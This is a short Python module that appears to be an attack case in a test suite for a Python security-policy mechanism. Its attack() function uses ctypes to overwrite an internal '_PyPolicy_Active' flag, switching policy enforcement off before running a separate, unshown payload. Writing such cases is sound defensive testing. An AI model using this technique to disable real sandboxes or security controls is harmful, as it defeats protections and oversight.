"""ctypes turns off what it finds, where ffi is restricted."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = ("baseline", "deny")

from . import payload


def attack():
    import _imp
    if not _imp.has_policy():
        return payload.act()
    import ctypes
    ctypes.c_int.in_dll(ctypes.pythonapi, "_PyPolicy_Active").value = 0
    payload.act()
